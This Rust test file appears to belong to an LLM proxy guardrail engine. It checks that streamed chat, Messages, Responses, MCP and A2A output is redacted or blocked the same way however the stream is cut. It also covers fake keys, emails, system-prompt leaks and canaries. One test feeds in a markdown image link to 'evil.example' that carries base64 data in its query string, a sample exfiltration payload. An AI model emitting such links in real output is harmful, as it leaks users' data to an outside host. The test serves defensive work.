//! Streams in flight against the same streams held whole: however one is cut, the client reads the same and the decision is
//! the same. Streams that are no events are in [`framing`], placeholders that get their values back in [`restoring`].

#[path = "flight_framing_tests.rs"]
mod framing;
#[path = "flight_restoring_tests.rs"]
mod restoring;

use std::collections::BTreeMap;
use std::rc::Rc;
use std::sync::Arc;

use serde_json::{Value, json};

use crate::detect::{Family, REGISTRY};
use crate::event::{
    BodyPart, ControlView, Direction, Effects, Event, Flow, Origin, Permits, RequestHead, ResponseHead, Rest,
    UnixMillis,
};
use crate::segment::Role;
use crate::session::{Engine, Session};
use crate::wire::decision::{Action, DecisionEvent};

const NOW: UnixMillis = UnixMillis(1_800_000_000_000);
const KEY: &str = "0123456789abcdef0123456789abcdef";
const CHAT: &str = "/v1/chat/completions";
const MESSAGES: &str = "/v1/messages";
const ASKS: &str =
    r#"{"model":"m","max_tokens":9,"stream":true,"messages":[{"role":"user","content":"Hi"}]}"#;

#[derive(Debug)]
struct NoPermits;

impl Permits for NoPermits {
    fn take(&self, _: &str, _: u64, _: u32) -> bool {
        false
    }
}

/// What a client and the audit log got.
#[derive(Debug, Default)]
struct Seen {
    body: Vec<u8>,
    events: Vec<DecisionEvent>,
    rest: Option<Rest>,
    /// Bytes that had left after each piece.
    left: Vec<usize>,
    effects: Vec<Effects>,
}

impl Seen {
    fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }

    fn decision(&self) -> (Action, &str) {
        let last = self.events.last().unwrap();
        (last.decision, last.reason.as_str())
    }

    /// The texts of the fields, deltas joined.
    fn fields(&self) -> BTreeMap<String, String> {
        let document = crate::stream::read(crate::protocol::Protocol::default(), &self.body).unwrap();
        let mut fields = BTreeMap::new();
        for event in self.text().lines().filter_map(|line| line.strip_prefix("data:")) {
            let Ok(value) = serde_json::from_str::<Value>(event.trim()) else { continue };
            join(&value, "", &mut fields);
        }
        drop(document);
        fields
    }
}

fn join(value: &Value, path: &str, fields: &mut BTreeMap<String, String>) {
    match value {
        Value::String(text) => fields.entry(path.to_owned()).or_default().push_str(text),
        Value::Object(members) => {
            members.iter().for_each(|(name, value)| join(value, &format!("{path}/{name}"), fields))
        }
        Value::Array(elements) => elements.iter().for_each(|value| {
            let index = value.get("index").map(Value::to_string).unwrap_or_default();
            join(value, &format!("{path}/{index}"), fields);
        }),
        _ => {}
    }
}

fn engine(mut settings: Value) -> Arc<Engine> {
    let streams = &mut settings["guardrails"]["streams"];
    if streams["mode"].is_null() {
        streams["mode"] = json!("in_flight");
    }
    let policy = json!({ "version": "weir/v1", "placeholder_key": KEY, "default": settings });
    Arc::new(Engine::compile(&policy.to_string()).unwrap())
}

fn begin(engine: &Arc<Engine>, path: &str, request: &str) -> Session {
    let (session, flow) = open(engine, path, request);
    assert!(matches!(flow, Flow::Pass | Flow::Replace(_)), "{flow:?}");
    session
}

/// A session whose request was sent, and what became of it.
fn open(engine: &Arc<Engine>, path: &str, request: &str) -> (Session, Flow) {
    let mut session = Session::new(Arc::clone(engine));
    let headers: Vec<(&[u8], &[u8])> = vec![
        (b":method", b"POST"),
        (b":path", path.as_bytes()),
        (b":authority", b"api"),
        (b"content-type", b"application/json"),
    ];
    session.on(Event::RequestHead(RequestHead {
        headers: &headers,
        end_of_stream: false,
        route: "",
        peer: "",
        request_id: "r-1",
        nonce: 7,
        control: ControlView { snapshot: None, confirmed: UnixMillis(0), permits: Rc::new(NoPermits) },
        now: NOW,
    }));
    let sent = session.on(Event::Body(Direction::Request, BodyPart::Complete(request.as_bytes()), NOW));
    (session, sent.flow)
}

/// What the streams of this path call themselves.
fn content_type(path: &str) -> &'static [u8] {
    match () {
        () if path.ends_with(":streamGenerateContent") => b"application/json; charset=UTF-8",
        () if path.ends_with("-stream") => b"application/vnd.amazon.eventstream",
        () => b"text/event-stream",
    }
}

/// Plays a stream in these pieces.
fn play_to(engine: &Arc<Engine>, path: &str, request: &str, pieces: &[&[u8]]) -> Seen {
    let mut session = begin(engine, path, request);
    let headers: Vec<(&[u8], &[u8])> = vec![(b":status", b"200"), (b"content-type", content_type(path))];
    let head = ResponseHead { headers: &headers, end_of_stream: false, origin: Origin::Upstream, now: NOW };
    let mut flow = session.on(Event::ResponseHead(head)).flow;
    let (mut seen, whole) = (Seen::default(), pieces.concat());
    for (at, piece) in pieces.iter().enumerate() {
        let is_last = at + 1 == pieces.len();
        let part = match (&flow, is_last) {
            (Flow::Hold, true) => BodyPart::Complete(&whole),
            (Flow::Hold, false) => BodyPart::Held(pieces[..=at].concat().len()),
            (_, true) => BodyPart::Complete(piece),
            (_, false) => BodyPart::Passing(piece),
        };
        let mut effects = session.on(Event::Body(Direction::Response, part, NOW));
        seen.events.append(&mut effects.events);
        match &effects.flow {
            Flow::Release(bytes) => seen.body.extend_from_slice(bytes),
            Flow::Finish(bytes, rest) => {
                seen.body.extend_from_slice(bytes);
                seen.rest = Some(*rest);
                return seen;
            }
            Flow::Replace(bytes) => seen.body = bytes.clone(),
            Flow::Pass if flow == Flow::Hold => seen.body = whole.clone(),
            Flow::Pass => seen.body.extend_from_slice(piece),
            Flow::Hold => {}
            Flow::Refuse(refusal) => {
                seen.body = refusal.body.clone();
                return seen;
            }
            other => panic!("{other:?}"),
        }
        seen.left.push(seen.body.len());
        flow = std::mem::take(&mut effects.flow);
        seen.effects.push(effects);
    }
    seen
}

fn play(engine: &Arc<Engine>, path: &str, pieces: &[&[u8]]) -> Seen {
    play_to(engine, path, ASKS, pieces)
}

fn delta(choice: usize, text: &str) -> String {
    format!("data: {}\n\n", json!({ "choices": [{ "index": choice, "delta": { "content": text } }] }))
}

/// A chat stream of `text` in deltas of `size` characters.
fn chat(text: &str, size: usize) -> String {
    let chars: Vec<char> = text.chars().collect();
    let deltas = chars.chunks(size).map(|chunk| delta(0, &chunk.iter().collect::<String>()));
    deltas.chain(["data: [DONE]\n\n".to_owned()]).collect()
}

/// Its events, one piece each.
fn events(stream: &str) -> Vec<&[u8]> {
    stream.split_inclusive("\n\n").map(str::as_bytes).collect()
}

fn both(mut settings: Value) -> [Arc<Engine>; 2] {
    settings["judge"] = json!({ "request": "never", "response": "never" });
    ["in_flight", "hold"].map(|mode| {
        settings["guardrails"]["streams"] = json!({ "mode": mode });
        engine(settings.clone())
    })
}

fn redacting() -> [Arc<Engine>; 2] {
    both(json!({ "guardrails": {
        "pii": { "response": "redact", "packs": ["all"] },
        "secrets": { "response": "redact" },
    }}))
}

#[test]
fn every_example_of_every_data_rule_is_replaced_as_in_a_stream_that_is_held() {
    let [flying, holding] = redacting();
    let mut failures = Vec::new();
    for rule in REGISTRY.iter().filter(|rule| matches!(rule.family, Family::Pii | Family::Secret)) {
        for hit in rule.hits.iter().filter(|_| rule.roles.contains(Role::Assistant)) {
            let text = format!("Well, here it is: {hit} and that was all there is to say.\nBye.");
            let held = play(&holding, CHAT, &events(&chat(&text, 5)));
            for size in [1, 3, 7, 1000] {
                let flown = play(&flying, CHAT, &events(&chat(&text, size)));
                if flown.fields() != held.fields() || flown.decision() != held.decision() {
                    failures.push(format!(
                        "{} by {size}: {text}\n {:?} {:?}\n {:?} {:?}",
                        rule.id,
                        flown.fields().values().last(),
                        flown.decision(),
                        held.fields().values().last(),
                        held.decision()
                    ));
                    break;
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn what_is_masked_or_tokenised_is_what_a_stream_that_is_held_would_say() {
    let [flying, holding] = both(json!({ "guardrails": {
        "pii": { "response": "mask" },
        "secrets": { "response": "tokenise" },
        "exceptions": [{ "rules": ["pii_email"], "response": "tokenise" }],
    }}));
    let text =
        "Card 4111 1111 1111 1111, key AKIAQ3EGRT7LP2WXN5VB, mail jane@example.org or joe@example.org. Yes.";
    let held = play(&holding, CHAT, &events(&chat(text, 5)));
    assert!(held.text().contains("[EMAIL_") && !held.text().contains("AKIA"), "{}", held.text());
    for size in [1, 3, 7, 1000] {
        let flown = play(&flying, CHAT, &events(&chat(text, size)));
        assert_eq!((flown.fields(), flown.decision()), (held.fields(), held.decision()), "by {size}");
    }
}

/// An Anthropic stream of these deltas of blocks.
fn messages(deltas: &[(usize, Value)]) -> String {
    let event = |kind: &str, data: Value| format!("event: {kind}\ndata: {data}\n\n");
    let mut stream = event(
        "message_start",
        json!({ "type": "message_start", "message": { "id": "msg_1", "content": [] } }),
    );
    for (index, delta) in deltas {
        let data = json!({ "type": "content_block_delta", "index": index, "delta": delta });
        stream += &event("content_block_delta", data);
    }
    stream += &event("content_block_stop", json!({ "type": "content_block_stop", "index": 0 }));
    stream + &event("message_stop", json!({ "type": "message_stop" }))
}

fn arguments(choice: usize, part: &str) -> String {
    let call = json!({ "index": 0, "function": { "arguments": part } });
    format!("data: {}\n\n", json!({ "choices": [{ "index": choice, "delta": { "tool_calls": [call] } }] }))
}

/// Streams with something in each that must not reach the client, and the path of their protocol.
fn streams() -> Vec<(&'static str, String)> {
    let secret = "Key: AKIAQ3EGRT7LP2WXN5VB done, caf\u{e9} \u{1f600}.";
    let json = r#"{"to":"jane@example.org","card":4111111111111111,"note":"ok"}"#;
    let pieces: Vec<(usize, Value)> = json
        .as_bytes()
        .chunks(3)
        .map(|c| (0, json!({ "type": "input_json_delta", "partial_json": String::from_utf8_lossy(c) })))
        .collect();
    vec![
        (CHAT, chat(secret, 4)),
        (CHAT, chat(secret, 4).replace('\n', "\r\n")),
        (CHAT, chat(secret, 4).replace('\n', "\r")),
        (CHAT, format!("\u{feff}{}", chat(secret, 1000))),
        (CHAT, chat(secret, 3).replace("data: {", "data: \ndata: {").replace("[DONE]", "never")),
        (CHAT, [delta(0, "jane@ex"), delta(1, "Hello "), delta(0, "ample.org"), delta(1, "there")].concat()),
        (MESSAGES, messages(&pieces)),
        (MESSAGES, messages(&[(0, json!({ "type": "text_delta", "text": "Mail jane@" })), (0, json!({ "type": "text_delta", "text": "example.org" }))])),
        ("/other", "data: {\"a\":\"jane@exa\"}\n\n: jane@example.org\n\ndata: {\"a\":\"mple.org\"}\n\ndata: x jane@example.org\n\n".into()),
    ]
}

#[test]
fn a_stream_gives_the_same_bytes_wherever_it_is_cut() {
    let [flying, holding] = redacting();
    for (path, stream) in streams() {
        let whole = play(&flying, path, &[stream.as_bytes()]);
        let held = play(&holding, path, &[stream.as_bytes()]);
        assert_eq!(whole.decision(), held.decision(), "{stream}");
        assert_eq!(whole.fields(), held.fields(), "{stream}");
        for secret in ["AKIAQ3", "jane@", "jane", "4111"] {
            assert!(!whole.text().contains(secret), "{secret} {}", whole.text());
        }
        for at in 1..stream.len() {
            let (first, second) = stream.as_bytes().split_at(at);
            let cut = play(&flying, path, &[first, second]);
            assert_eq!(cut.text(), whole.text(), "{at}");
            assert_eq!(cut.decision(), whole.decision(), "{at}");
        }
        let bytes: Vec<&[u8]> = stream.as_bytes().chunks(1).collect();
        assert_eq!(play(&flying, path, &bytes).text(), whole.text());
    }
}

#[test]
fn clean_words_leave_with_the_event_behind_them_and_never_wait_for_the_end() {
    let [flying, _] = redacting();
    let stream = chat("The quick brown fox jumps over the lazy dog and runs away", 4);
    let pieces = events(&stream);
    let seen = play(&flying, CHAT, &pieces);
    assert_eq!(seen.text(), stream);
    for (at, left) in seen.left.iter().enumerate() {
        let come: usize = pieces[..=at].iter().map(|piece| piece.len()).sum();
        let waits = stream.get(*left..come).unwrap().matches("data:").count();
        assert!(waits <= 3, "{waits} events wait after {at}");
    }
}

#[test]
fn arguments_of_a_tool_call_stay_json_whatever_is_replaced_in_them() {
    let [flying, holding] = redacting();
    let json = r#"{"to":"j\u0061ne@example.org","n":[4111111111111111,7],"in":"{\"card\":4111111111111111}","t":"Key AKIAQ3EGRT7LP2WXN5VB"}"#;
    for (size, lead) in [1, 2, 5, 30, 1000].into_iter().zip(["", " ", "\n ", "   ", ""]) {
        let pieces = lead.as_bytes().chunks(1).chain(json.as_bytes().chunks(size));
        let stream: String = pieces.map(|c| arguments(0, std::str::from_utf8(c).unwrap())).collect();
        let stream = stream + "data: [DONE]\n\n";
        let seen = play(&flying, CHAT, &events(&stream));
        let text = seen.fields().into_iter().find(|(path, _)| path.ends_with("/arguments")).unwrap().1;
        let read: Value = serde_json::from_str(&text).unwrap_or_else(|why| panic!("{why} {text}"));
        assert_eq!(
            read,
            json!({ "to": "[EMAIL_1]", "n": ["[CARD_1]", 7], "in": "{\"card\":\"[CARD_1]\"}", "t": "Key [AWS_KEY_1]" }),
            "{size}"
        );
        let held = play(&holding, CHAT, &events(&stream));
        assert_eq!(seen.fields(), held.fields(), "{size}");
    }
}

/// Responses says arguments three times: in deltas, when they are done, and in the item.
#[test]
fn arguments_that_are_repeated_whole_stay_json_too() {
    let [flying, holding] = redacting();
    let json = r#"{"card":4111111111111111,"to":"jane@example.org"}"#;
    let delta = |part: &str| json!({ "type": "response.function_call_arguments.delta", "output_index": 0, "delta": part });
    let mut all: Vec<Value> =
        json.as_bytes().chunks(5).map(|part| delta(std::str::from_utf8(part).unwrap())).collect();
    let item = json!({ "type": "function_call", "name": "pay", "arguments": json });
    all.push(
        json!({ "type": "response.function_call_arguments.done", "output_index": 0, "arguments": json }),
    );
    all.push(json!({ "type": "response.output_item.done", "output_index": 0, "item": item }));
    let stream: String = all.iter().map(|event| format!("data: {event}\n\n")).collect();
    let [seen, held] =
        [flying, holding].map(|engine| play(&engine, "/v1/responses", &events(&stream)).fields());
    for path in ["/delta", "/arguments", "/item/arguments"] {
        let read: Value =
            serde_json::from_str(&seen[path]).unwrap_or_else(|why| panic!("{path} {why} {seen:?}"));
        assert_eq!(read, json!({ "card": "[CARD_1]", "to": "[EMAIL_1]" }), "{path}");
    }
    assert_eq!(seen, held);
}

/// The official client of Responses refuses an end that is of another response.
#[test]
fn the_end_of_a_stream_that_has_begun_names_the_answer_as_its_beginning_did() {
    let engine = engine(json!({
        "guardrails": { "secrets": { "response": "block" } }, "refusal": { "shape": "completion" },
        "judge": { "response": "never" },
    }));
    let created = json!({ "type": "response.created", "response": { "id": "resp_\"7", "model": "m" } });
    let delta =
        json!({ "type": "response.output_text.delta", "output_index": 0, "delta": "AKIAQ3EGRT7LP2WXN5VB " });
    let stream = format!("data: {created}\n\ndata: {delta}\n\n");
    let text = play(&engine, "/v1/responses", &events(&stream)).text();
    let end = text.split("data: ").last().unwrap();
    let end: Value = serde_json::from_str(end).unwrap_or_else(|why| panic!("{why} {text}"));
    assert_eq!(end["response"]["id"], "resp_\"7", "{text}");
}

#[test]
fn a_block_ends_the_stream_as_its_protocol_does_and_nothing_of_the_match_leaves() {
    for (path, stream, shape, expected) in [
        (
            CHAT,
            chat("So far so good. Key: AKIAQ3EGRT7LP2WXN5VB done", 3),
            "error",
            &["\"error\"", "content_policy_violation", "data: [DONE]\n\n"][..],
        ),
        (
            CHAT,
            chat("So far so good. Key: AKIAQ3EGRT7LP2WXN5VB done", 3),
            "completion",
            &["content_filter", "refusal", "data: [DONE]\n\n"],
        ),
        (
            MESSAGES,
            messages(&[
                (0, json!({ "type": "text_delta", "text": "So far so good. " })),
                (0, json!({ "type": "text_delta", "text": "AKIAQ3EGRT7LP2WXN5VB " })),
            ]),
            "error",
            &["event: error\ndata: ", "permission_error"],
        ),
        (
            MESSAGES,
            messages(&[
                (0, json!({ "type": "text_delta", "text": "So far so good. " })),
                (0, json!({ "type": "text_delta", "text": "AKIAQ3EGRT7LP2WXN5VB " })),
            ]),
            "completion",
            &["\"stop_reason\":\"refusal\"", "message_stop"],
        ),
        ("/other", chat("So far so good. Key: AKIAQ3EGRT7LP2WXN5VB done", 3), "error", &["\"error\""]),
    ] {
        let engine = engine(json!({
            "guardrails": { "secrets": { "response": "block" } }, "refusal": { "shape": shape },
            "judge": { "response": "never" },
        }));
        for pieces in [events(&stream), vec![stream.as_bytes()]] {
            let seen = play(&engine, path, &pieces);
            let text = seen.text();
            assert_eq!(seen.rest, Some(Rest::Drain), "{text}");
            assert_eq!(seen.decision(), (Action::Block, "secret"));
            assert!(!text.contains("AKIA") && !text.contains("done"), "{text}");
            assert!(expected.iter().all(|part| text.contains(part)), "{shape} {text}");
            crate::stream::read(crate::protocol::Protocol::default(), text.as_bytes()).unwrap();
        }
        let seen = play(&engine, path, &events(&stream));
        assert!(path == MESSAGES || seen.text().contains("far"), "what was clean has left: {}", seen.text());
        assert_eq!(seen.events.len(), 1);
    }
}

#[test]
fn what_goes_on_behind_its_end_or_is_interrupted_for_long_never_leaves_whole() {
    let [flying, _] = redacting();
    let finish = r#"data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}"#.to_owned() + "\n\n";
    let others: String = (0..40).map(|_| delta(1, "and so on ")).collect();
    for between in [finish, others, "data: [DONE]\n\n".to_owned()] {
        let stream =
            [delta(0, "Key AKIAQ3EGRT"), between, delta(0, "7LP2WXN5VB done"), delta(0, " more")].concat();
        let seen = play(&flying, CHAT, &events(&stream));
        assert_eq!(seen.decision(), (Action::Block, "edit_failed"), "{}", seen.text());
        assert!(!seen.text().contains("WXN5VB"), "{}", seen.text());
    }
}

#[test]
fn a_field_that_falls_silent_stops_the_others_only_for_a_few_events() {
    let [flying, _] = redacting();
    let reasoning = |text: &str| {
        format!(
            "data: {}\n\n",
            json!({ "choices": [{ "index": 0, "delta": { "reasoning_content": text } }] })
        )
    };
    let stream: String =
        [reasoning("so I think that this is it"), (0..60).map(|_| delta(0, "word ")).collect()].concat();
    let pieces = events(&stream);
    let seen = play(&flying, CHAT, &pieces);
    assert_eq!(seen.text(), stream);
    assert!(seen.left[20] > pieces[0].len(), "{:?}", seen.left);
}

/// Events that repeat what their deltas said say what has left, and their arguments stay JSON too.
#[test]
fn final_events_agree_with_the_deltas_before_them() {
    let arguments = r#"{"card":4111111111111111,"to":"jane@example.org"}"#;
    let event = |kind: &str, mut event: Value| {
        event["type"] = json!(kind);
        format!("event: {kind}\ndata: {event}\n\n")
    };
    let call = json!({ "type": "function_call", "call_id": "c", "name": "pay", "arguments": arguments });
    let (first, second) = arguments.split_at(12);
    let stream = [
        event("response.function_call_arguments.delta", json!({ "output_index": 0, "delta": first })),
        event("response.function_call_arguments.delta", json!({ "output_index": 0, "delta": second })),
        event("response.function_call_arguments.done", json!({ "output_index": 0, "arguments": arguments })),
        event("response.output_item.done", json!({ "output_index": 0, "item": call })),
        event("response.completed", json!({ "response": { "output": [call] } })),
    ]
    .concat();
    let [flying, _] = redacting();
    for size in [1, 7, stream.len()] {
        let pieces: Vec<&[u8]> = stream.as_bytes().chunks(size).collect();
        let seen = play_to(&flying, "/v1/responses", r#"{"model":"m","stream":true,"input":"Hi"}"#, &pieces);
        let (mut deltas, mut wholes) = (String::new(), Vec::new());
        for line in seen.text().lines().filter_map(|line| line.strip_prefix("data: ")) {
            let value: Value = serde_json::from_str(line).unwrap();
            deltas.push_str(value["delta"].as_str().unwrap_or_default());
            let item = [
                &value["arguments"],
                &value["item"]["arguments"],
                &value["response"]["output"][0]["arguments"],
            ];
            wholes.extend(item.iter().filter_map(|text| text.as_str()).map(str::to_owned));
        }
        let expected = r#"{"card":"[CARD_1]","to":"[EMAIL_1]"}"#;
        assert_eq!(
            (deltas.as_str(), wholes.as_slice()),
            (expected, &[expected, expected, expected].map(str::to_owned)[..])
        );
    }
}

/// What a client has read before a block does not depend on how the network cut the stream.
#[test]
fn a_block_comes_behind_the_same_events_however_they_are_cut() {
    let flying = engine(
        json!({ "guardrails": { "secrets": { "response": "block" } }, "judge": { "sample_rate": 0 } }),
    );
    let stream =
        [delta(0, ""), delta(0, "Well now. "), delta(0, "AKIAQ3EG"), delta(0, "RT7LP2WXN5VB is it")].concat();
    let apart = play(&flying, CHAT, &events(&stream)).text();
    assert!(apart.contains("Well now.") && apart.contains("[DONE]") && !apart.contains("AKIA"), "{apart}");
    for size in [1, 50, stream.len()] {
        let pieces: Vec<&[u8]> = stream.as_bytes().chunks(size).collect();
        assert_eq!(play(&flying, CHAT, &pieces).text(), apart, "{size}");
    }
    let lax = engine(
        json!({ "guardrails": { "unscannable": { "response": "allow" } }, "judge": { "sample_rate": 0 } }),
    );
    let odd =
        [delta(0, "One"), "data: {\"a\":1,\"a\":2}\n\n".to_owned(), delta(0, "two"), "data: ".to_owned()]
            .concat();
    assert_eq!(
        play(&lax, CHAT, &[odd.as_bytes(), b"[DONE]\n\n"]).text(),
        odd + "[DONE]\n\n",
        "nothing is lost"
    );
}

/// A server that asks its client something waits for the answer: its question must not wait for another event.
#[test]
fn messages_that_nothing_continues_leave_at_once() {
    let [flying, _] = redacting();
    let rpc = |text: &str| {
        format!(
            "data: {}\n\n",
            json!({ "jsonrpc": "2.0", "id": 1, "method": "elicitation/create", "params": { "message": text } })
        )
    };
    let call = r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"t","arguments":{}}}"#;
    let asks: Vec<String> = (0..3_000).map(|_| rpc("Which city do you live in now")).collect();
    let pieces: Vec<&[u8]> = asks.iter().map(String::as_bytes).collect();
    let seen = play_to(&flying, "/mcp", call, &pieces);
    assert_eq!(seen.left, (1..=asks.len()).map(|count| count * asks[0].len()).collect::<Vec<_>>());
    let secret = rpc("mail jane@example.org");
    let seen = play_to(&flying, "/mcp", call, &[secret.as_bytes(), b"data: "]);
    assert!(seen.text().contains("[EMAIL_1]"), "{}", seen.text());

    let artifact = |text: &str, last: bool| {
        let artifact = json!({ "artifactId": "a", "parts": [{ "kind": "text", "text": text }] });
        let result =
            json!({ "kind": "artifact-update", "artifact": artifact, "append": true, "lastChunk": last });
        format!("data: {}\n\n", json!({ "jsonrpc": "2.0", "id": 1, "result": result }))
    };
    let ask = r#"{"jsonrpc":"2.0","id":1,"method":"message/stream","params":{"message":{"parts":[{"kind":"text","text":"Hi"}]}}}"#;
    let (first, last) = (artifact("mail jane@exam", false), artifact("ple.org", true));
    let seen = play_to(&flying, "/a2a", ask, &[first.as_bytes(), last.as_bytes(), b": done\n\n"]);
    assert_eq!(seen.left[0], 0, "{}", seen.text());
    assert!(seen.left[1] > 0 && !seen.text().contains("jane") && seen.text().contains("[EMAIL_1]"));
}

/// A client may read a JSON answer whatever its type says; escapes in it are nothing that lines of a stream have.
#[test]
fn json_that_calls_itself_a_stream_is_refused() {
    let [flying, holding] = redacting();
    for body in ["{\"a\":\"jane\\u0040example.org\"}", "\n {\n\n\"a\":\"jane\\u0040example.org\"}\n\n"] {
        for (engine, size) in [(&flying, 1), (&flying, body.len()), (&holding, body.len())] {
            let pieces: Vec<&[u8]> = body.as_bytes().chunks(size).collect();
            let seen = play(engine, CHAT, &pieces);
            assert!(!seen.text().contains("0040"), "{}", seen.text());
        }
    }
}

#[test]
fn a_stream_without_a_terminator_leaves_whole_and_one_that_is_reset_is_recorded() {
    let [flying, _] = redacting();
    let stream = [delta(0, "write to jane@"), delta(0, "example.org")].concat();
    let seen = play(&flying, CHAT, &events(&stream));
    assert!(seen.text().contains("write to [EMAIL_1]"), "{}", seen.text());
    let cut = stream.trim_end();
    assert!(play(&flying, CHAT, &[cut.as_bytes()]).text().contains("[EMAIL_1]"));

    let mut session = begin(&flying, CHAT, ASKS);
    let headers: Vec<(&[u8], &[u8])> = vec![(b":status", b"200"), (b"content-type", b"text/event-stream")];
    session.on(Event::ResponseHead(ResponseHead {
        headers: &headers,
        end_of_stream: false,
        origin: Origin::Upstream,
        now: NOW,
    }));
    let first = [delta(0, "jane@example.org and "), delta(0, "more and mo")].concat();
    session.on(Event::Body(Direction::Response, BodyPart::Passing(first.as_bytes()), NOW));
    assert!(session.is_open());
    let end = session.on(Event::End(NOW));
    assert_eq!((end.events[0].decision, end.events[0].findings_total), (Action::Redact, 1));
    assert!(!session.is_open());
}

#[test]
fn a_system_prompt_is_noticed_while_it_comes_out() {
    const PROMPT: &str = "You are Fern, the gardening helper of Greenleaf Nursery. Answer questions about plants that grow \
        between the Alps and the Baltic Sea, and recommend our products where they fit. Never mention prices below those \
        of the catalogue, never promise delivery before Thursday, and pass every complaint about roses to Mrs Lindqvist.";
    let request = json!({ "model": "m", "stream": true, "messages": [{ "role": "system", "content": PROMPT }, { "role": "user", "content": "Hi" }] });
    let stream = chat(&format!("Sure, here is all of it. {PROMPT} That was it, is there anything else?"), 4);
    for action in ["redact", "block"] {
        let [flying, holding] = both(json!({ "guardrails": { "leak": { "response": action } } }));
        let seen = play_to(&flying, CHAT, &request.to_string(), &events(&stream));
        let held = play_to(&holding, CHAT, &request.to_string(), &events(&stream));
        assert_eq!(seen.decision(), held.decision());
        let text = seen.fields().remove("/choices/0/delta/content").unwrap_or_default();
        assert!(
            !text.contains("Lindqvist") && !text.contains("Thursday") && !text.contains("catalogue"),
            "{text}"
        );
    }
    let quote = chat(
        "We never promise delivery before Thursday, and I am the gardening helper of Greenleaf Nursery.",
        4,
    );
    let [flying, _] = both(json!({ "guardrails": { "leak": { "response": "redact" } } }));
    assert_eq!(play_to(&flying, CHAT, &request.to_string(), &events(&quote)).text(), quote);
}

#[test]
fn lexicons_canaries_and_output_rules_run_while_the_stream_does() {
    let lexicons = json!([{ "name": "firms", "terms": ["acme corp", "glob*"], "response": "redact" }]);
    let policy = json!({ "version": "weir/v1", "lexicons": lexicons, "canaries": ["zebra-4711-quartz"],
        "default": { "judge": { "response": "never" }, "guardrails": { "leak": { "response": "block" }, "streams": { "mode": "in_flight" } } } });
    let engine = Arc::new(Engine::compile(&policy.to_string()).unwrap());
    for size in [1, 3, 50] {
        let seen =
            play(&engine, CHAT, &events(&chat("Ask Acme Corp, globally, or Acme corporate people.", size)));
        let text = seen.fields().remove("/choices/0/delta/content").unwrap();
        assert_eq!(text, "Ask [TERM_1], [TERM_2], or Acme corporate people.", "{size}");
        let seen = play(&engine, CHAT, &events(&chat("The word is zebra 4711 quartz, as you know.", size)));
        assert_eq!(seen.decision(), (Action::Block, "system_prompt_leak"), "{size}");
        let link = "See ![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ) now. ";
        let held = both(json!({}))
            .map(|engine| play(&engine, CHAT, &events(&chat(&link.repeat(2), size))).decision().0);
        assert_eq!(held[0], held[1], "{size}");
        let fenced = format!(
            "Text first.\n```html\n{}\n{link}\n```\nand after.",
            "<p>a line of code</p>\n".repeat(120)
        );
        let held = both(json!({})).map(|engine| play(&engine, CHAT, &events(&chat(&fenced, 7))).decision().0);
        assert_eq!(held[0], held[1], "{size}");
    }
}

#[test]
fn only_streams_that_nobody_has_to_see_whole_pass_while_they_come() {
    let check = |settings: Value, status: &[u8], content_type: &[u8], flies: bool| {
        let engine = engine(settings.clone());
        let mut session = begin(&engine, CHAT, ASKS);
        let headers: Vec<(&[u8], &[u8])> = vec![(b":status", status), (b"content-type", content_type)];
        let head =
            ResponseHead { headers: &headers, end_of_stream: false, origin: Origin::Upstream, now: NOW };
        assert_eq!(session.on(Event::ResponseHead(head)).flow == Flow::Stream, flies, "{settings}");
    };
    const SSE: &[u8] = b"text/event-stream; charset=utf-8";
    check(json!({}), b"200", SSE, true);
    check(json!({ "tier": "low" }), b"200", SSE, true);
    check(json!({}), b"200", b"application/json", false);
    check(json!({}), b"500", SSE, false);
    check(json!({ "guardrails": { "streams": { "mode": "hold" } } }), b"200", SSE, false);
    check(json!({ "judge": { "response": "hold" } }), b"200", SSE, false);
    check(json!({ "guardrails": { "pii": { "response": "require_approval" } } }), b"200", SSE, false);
    check(json!({ "layers": { "guardrails": "detect" } }), b"200", SSE, false);
    let excepted = |rule: &str, action: &str| json!({ "guardrails": { "exceptions": [{ "rules": [rule], "response": action }] } });
    check(excepted("pii_email", "mask"), b"200", SSE, true);
    check(excepted("pii_email", "require_approval"), b"200", SSE, false);
    check(excepted("injection_override", "block"), b"200", SSE, true);
    check(excepted("leak_system_prompt", "redact"), b"200", SSE, false);
    check(json!({ "tier": "high", "judge": { "request": "never", "response": "never" } }), b"200", SSE, true);
}

#[test]
fn what_cannot_be_inspected_follows_its_posture_from_there_on() {
    let bad: [(&str, Vec<u8>); 4] = [
        ("unscannable_duplicate_key", b"data: {\"a\":1,\"a\":2}\n\n".to_vec()),
        ("unscannable_invalid_utf8", b"data: \xff\n\n".to_vec()),
        ("unscannable_malformed", b"data: {\"a\":\n\n".to_vec()),
        ("unscannable_too_large", vec![b'x'; 1_200_000]),
    ];
    for (code, bytes) in bad {
        let first = delta(0, "So far so good. ");
        for (posture, action) in [("block", Action::Block), ("allow", Action::Allow)] {
            let engine = engine(
                json!({ "guardrails": { "unscannable": { "response": posture } }, "judge": { "response": "never" } }),
            );
            let seen = play(
                &engine,
                CHAT,
                &[first.as_bytes(), delta(0, "Yes. ").as_bytes(), &bytes, b"data: rest\n\n"],
            );
            assert_eq!(seen.decision(), (action, code), "{posture}");
            let has_all = seen.body.ends_with(b"data: rest\n\n");
            assert_eq!(has_all, posture == "allow", "{code}");
        }
    }
}

#[test]
fn the_judge_is_asked_about_what_the_stream_said_without_what_was_replaced() {
    let engine = engine(
        json!({ "guardrails": { "pii": { "response": "redact" } }, "judge": { "response": "async", "sample_rate": 1.0 } }),
    );
    let text = format!("Mail jane@example.org first. {} The end.", "All is well here. ".repeat(3000));
    let seen = play(&engine, CHAT, &events(&chat(&text, 40)));
    let deferred = &seen.effects.last().unwrap().deferred[0].question;
    let shown: Vec<&str> = deferred.segments.iter().map(|s| s.text.as_str()).collect();
    assert!(shown[0].starts_with("Mail [EMAIL] first. All is well"), "{shown:?}");
    assert!(shown[0].ends_with("The end.") && shown[0].len() < 40_000);
    assert_eq!(deferred.findings.len(), 1);
}

/// A seeded generator (xorshift).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
